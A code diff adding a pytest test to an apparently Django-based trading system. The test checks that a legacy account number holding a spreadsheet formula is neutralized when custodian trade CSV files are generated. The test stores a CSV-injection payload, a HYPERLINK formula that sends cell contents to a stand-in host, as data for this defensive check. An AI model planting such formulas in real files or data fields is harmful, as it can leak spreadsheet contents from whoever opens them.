@@ -740,3 +740,25 @@ def test_a_whole_share_account_sells_a_fractional_lot_entirely_through_to_the_fi
     assert (allocation.filled_shares, allocation.is_open) == (Decimal("7.5"), False)
     proposal.refresh_from_db()
     assert proposal.status == ProposalStatus.FILLED
+
+
+def test_an_identifier_stored_before_the_rule_comes_out_neutralized(approved, firms):
+    """A formula-leading account number inserted directly (as before imports refused them)."""
+    from apps.accounts.models import Account
+
+    hyperlink = '=HYPERLINK("http://x.test/?"&A1)'
+    legacy = approved["legacy"]
+    Account.objects.filter(pk=legacy.pk).update(number=hyperlink)
+    client = api_client(firms["a"], Role.TRADER)
+    assert client.post("/api/v1/orders/create/").status_code == 201
+    generated = client.post(
+        "/api/v1/trade-files/generate/", {"custodian": "schwab", "layout": "generic"}, format="json"
+    )
+    assert generated.status_code == 201, generated.content
+    download = client.get(f"/api/v1/trade-files/{generated.json()['id']}/download/")
+    body = b"".join(download.streaming_content).decode()
+    numbers = {row["account_number"] for row in _csv_rows(body.encode())}
+    assert "'" + hyperlink in numbers
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert all(row["shares"][0].isdigit() for row in _csv_rows(body.encode()))
